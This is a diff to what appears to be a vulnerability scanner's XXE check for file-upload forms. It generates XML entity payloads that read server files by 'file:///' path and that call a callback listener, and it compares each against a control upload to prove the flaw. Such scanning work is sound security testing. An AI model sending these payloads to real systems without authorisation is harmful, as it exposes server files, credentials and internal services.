@@ -3,7 +3,7 @@ import type { Candidate } from '../../model/candidate.ts';
 import { claim, type Experiment, type Step } from '../../model/experiment.ts';
 import { ProbeError } from '../../model/probe-error.ts';
 import { firstMatch } from '../../proof/pattern.ts';
-import { newTrialValues } from '../../proof/template.ts';
+import { fill, newTrialValues } from '../../proof/template.ts';
 import { type CheckContext, defineCheck, notApplicable } from '../contract.ts';
 import { likeliest } from '../inputs/at-most.ts';
 import { callbackWaitMs, calledExperiment, expectAll } from '../inputs/callback-look.ts';
@@ -11,21 +11,29 @@ import type { OpenedInput, UploadedFile } from '../inputs/input-request.ts';
 import { inputSteps, openInput, requestOfInput } from '../inputs/open-input.ts';
 import { kindNamed, parsedKinds } from './parsed-uploads.ts';
 import { contextOf } from './plant.ts';
+import { targetOf } from './redirect-target.ts';
+import { documentLike, sampleDocument } from './sample-documents.ts';
 import { unixFiles } from './traversal-payloads.ts';
 import { maxForms, sending, type Taking, takingForms } from './upload-forms.ts';
 
-/** `kind` is a name of one of the kinds that are parsed. */
-type ReadUpload = Taking & { kind: string };
-type ReadBackUpload = ReadUpload & { read?: { pattern: string; path: string } };
+/** `kind` is a name of one of the kinds that are parsed; `sample` is a document that the form's page shows. */
+type ReadUpload = Taking & { kind: string; sample?: string };
+/** `shownAt` is the page that the answer leads to. */
+type ReadBackUpload = ReadUpload & { read?: { pattern: string; path: string; shownAt?: string } };
 type AwaitedUpload = { token: string; candidate: Candidate<ReadBackUpload> };
 
-const naming = (kind: string, path: string): UploadedFile =>
-  kindNamed(kind).file(`<!ENTITY x SYSTEM "file:///${path}">`);
-const asText = (kind: string, text: string): UploadedFile => kindNamed(kind).file(`<!ENTITY x "${text}">`);
+/** What is imported is kept in columns that hold little: a file of Linux with one word. */
+const shortFile = { path: 'proc/sys/kernel/ostype', pattern: '‹nonce›Linux\\b' };
+
+const fileOf = ({ kind, sample }: ReadUpload, declarations: string, first = 11): UploadedFile =>
+  sample === undefined ? kindNamed(kind).file(declarations) : documentLike(sample, declarations, first);
+const naming = (parsed: ReadUpload, path: string): UploadedFile =>
+  fileOf(parsed, `<!ENTITY x SYSTEM "file:///${path}">`);
+const asText = (parsed: ReadUpload, text: string): UploadedFile => fileOf(parsed, `<!ENTITY x "${text}">`, 51);
 /** Both kinds of entities: programs resolve one and not the other. */
-const calling = (kind: string, host: string): UploadedFile => {
+const calling = (parsed: ReadUpload, host: string): UploadedFile => {
   const url = `http://${callbackSpot(host, '‹callback›')}`;
-  return kindNamed(kind).file(`<!ENTITY % y SYSTEM "${url}">%y;<!ENTITY x SYSTEM "${url}">`);
+  return fileOf(parsed, `<!ENTITY % y SYSTEM "${url}">%y;<!ENTITY x SYSTEM "${url}">`);
 };
 
 const maxKinds = 2;
@@ -50,8 +58,9 @@ export const xxeUpload = defineCheck<ReadBackUpload>({
     const awaited: AwaitedUpload[] = [];
     for (const form of forms) {
       const kinds = likeliest(context, parsedKinds(form.accept, form.called), maxKinds, 'kinds of files for a form');
-      for (const { name: kind } of kinds) {
-        const parsed = { ...form, kind };
+      const sample = await sampleFor(context, form);
+      for (const { name: kind } of sample === undefined ? kinds : [{ name: 'an XML document' }]) {
+        const parsed = { ...form, kind, ...(sample !== undefined && { sample }) };
         const looked = await tryFiles(context, parsed);
         if (looked?.read) found.push(candidateFor({ ...parsed, read: looked.read }));
         if (looked?.read) break;
@@ -74,7 +83,7 @@ export const xxeUpload = defineCheck<ReadBackUpload>({
     impact:
       'Whoever may send a file can read files of the server: source code, settings with passwords and keys. Most parsers open addresses as well, so that the server can be made to ask internal services.',
     sends:
-      'With `writes: "create"`, sends each form that takes a file up to two kinds that its field names (SVG, XML, DOCX, XLSX): one whose entity is a text, one that names `/etc/passwd`, one that names our listener; 4 more for a proof. They may stay, recorded before they are sent.',
+      'With `writes: "create"`, sends each form that takes a file up to two kinds that its field names (SVG, XML, DOCX, XLSX): one whose entity is a text, one that names a file, one that names our listener; 4 more for a proof. They may stay, recorded before they are sent.',
     proves:
       'The answer to the form has the form of that file; the same whose entity is a text does not: files are read. Where only our listener is called, that the parser opens what is named is shown, and not that it can be read.',
     remedy:
@@ -94,16 +103,28 @@ async function tryFiles(
 ): Promise<{ read?: ReadBackUpload['read']; token?: string } | undefined> {
   const [file] = unixFiles;
   if (!file) return undefined;
-  const { path, pattern } = file;
-  const base = await answerTo(context, parsed, asText(parsed.kind, path));
-  if (base === undefined || firstMatch(pattern, base)) return undefined;
-  const answer = await answerTo(context, parsed, naming(parsed.kind, path));
-  if (answer !== undefined && firstMatch(pattern, answer)) return { read: { path, pattern } };
+  const base = await answerTo(context, parsed, asText(parsed, file.path));
+  if (base === undefined) return undefined;
+  const { shownAt } = base;
+  const { path, pattern } = shownAt === undefined ? file : shortFile;
+  if (base.matches(pattern)) return undefined;
+  const answer = await answerTo(context, parsed, naming(parsed, path));
+  if (answer?.matches(pattern)) return { read: { path, pattern, ...(shownAt !== undefined && { shownAt }) } };
   if (answer === undefined || !context.callbacks) return undefined;
   const token = context.callbacks.newToken();
-  await answerTo(context, parsed, calling(parsed.kind, context.callbacks.host), token);
+  await answerTo(context, parsed, calling(parsed, context.callbacks.host), token);
   return { token };
 }
+
+/** An example on the page of a form that may take documents of XML. @throws ProbeError */
+async function sampleFor(context: CheckContext, { identity, pageUrl, accept }: Taking): Promise<string | undefined> {
+  if (accept !== '' && !/xml|\*\/\*/.test(accept)) return undefined;
+  const { status, text } = await contextOf(context, identity).http.get(pageUrl);
+  return status === 200 ? sampleDocument(text) : undefined;
+}
+
+/** What a form answers to a file: itself, or with the page that it leads to. */
+type FileAnswer = { shownAt?: string; matches(pattern: string): boolean };
 
 /** Those that were called for, when all were waited for once; what is called later is left to the end of the run. */
 async function calledOf(
@@ -129,15 +150,21 @@ async function answerTo(
   taking: Taking,
   file: UploadedFile,
   token = '',
-): Promise<string | undefined> {
+): Promise<FileAnswer | undefined> {
   const sender = contextOf(context, taking.identity);
   try {
     const opened = await openInput(sender, taking.input);
     const values = newTrialValues(context.nonce, () => token);
     const request = await requestOfInput(sender, opened, sending(taking, opened, file), values);
-    return await context.store?.(taking.identity, request, ({ status, text }) =>
-      Promise.resolve(status === 413 || status === 415 ? undefined : text),
-    );
+    // What is imported may be kept a little later than the answer comes.
+    const read = async (url: string) => (await sender.http.get(url, { fresh: true })).text;
+    return await context.store?.(taking.identity, request, async (answer) => {
+      if (answer.status === 413 || answer.status === 415) return undefined;
+      const shownAt = targetOf(answer);
+      const texts = shownAt === undefined ? [answer.text] : [await read(shownAt), await read(shownAt)];
+      const matches = (pattern: string) => texts.some((text) => firstMatch(fill(pattern, values), text) !== undefined);
+      return { matches, ...(shownAt !== undefined && { shownAt }) };
+    });
   } catch (error) {
     if (error instanceof ProbeError && error.code === 'refused') return undefined;
     throw error;
@@ -153,7 +180,7 @@ function candidateFor(parsed: ReadBackUpload): Candidate<ReadBackUpload> {
     route: input.route,
     ...(read
       ? {
-          detail: `${who} sends ${kind} that names the file /${read.path}, and the answer shows that file.`,
+          detail: `${who} sends ${kind} that names the file /${read.path}, and ${read.shownAt ?? 'the answer'} shows that file.`,
           cvss: `CVSS:3.1/AV:N/AC:L/PR:${needs}/UI:N/S:U/C:H/I:N/A:N`,
         }
       : {
@@ -165,11 +192,11 @@ function candidateFor(parsed: ReadBackUpload): Candidate<ReadBackUpload> {
 }
 
 function experimentFor(parsed: ReadBackUpload, input: OpenedInput, host = ''): Experiment {
-  const { read, kind, identity } = parsed;
+  const { read, identity } = parsed;
   const asSender = (step: Step): Step => ('http' in step && identity !== '' ? { ...step, identity } : step);
   const action = (file: UploadedFile) => sending(parsed, input, file);
   if (!read) {
-    const way = { action: action(calling(kind, host)), inert: action(asText(kind, '‹callback›')) };
+    const way = { action: action(calling(parsed, host)), inert: action(asText(parsed, '‹callback›')) };
     const { steps, control } = calledExperiment(
       { input, way },
       {
@@ -180,11 +207,24 @@ function experimentFor(parsed: ReadBackUpload, input: OpenedInput, host = ''): E
     );
     return { steps: steps.map(asSender), control: control.map(asSender) };
   }
-  const shown = claim('body', 'matches', read.pattern, 'The answer has the form of the file.');
-  const send = (file: UploadedFile, note: string) =>
-    inputSteps(input, action(file), { note, expect: [shown] }).map(asSender);
+  const send = (file: UploadedFile, note: string, pattern = read.pattern): Step[] => {
+    const shown = claim('body', 'matches', pattern, 'It has the form of the file.');
+    const { shownAt } = read;
+    if (shownAt === undefined) return inputSteps(input, action(file), { note, expect: [shown] }).map(asSender);
+    const sent = inputSteps(input, action(file), { note, expect: [claim('status', 'less-than', '400')] });
+    const page = { http: { url: shownAt }, note: 'The page that the answer leads to is opened.' };
+    const opened: Step = { ...page, expect: [claim('status', 'less-than', '400')], hasEffect: true };
+    return [...sent, opened, { ...page, expect: [shown] }].map(asSender);
+  };
+  // The page still shows what was imported before.
+  const another = (text: string): string => text.replaceAll('‹nonce›', '‹nonce2›');
+  const inert = asText(parsed, read.path);
   return {
-    steps: send(naming(kind, read.path), 'What is sent names a file, and the parser opens it.'),
-    control: send(asText(kind, read.path), 'The same whose entity is a text opens nothing.'),
+    steps: send(naming(parsed, read.path), 'What is sent names a file, and the parser opens it.'),
+    control: send(
+      { ...inert, content: another(inert.content) },
+      'The same whose entity is a text opens nothing.',
+      another(read.pattern),
+    ),
   };
 }
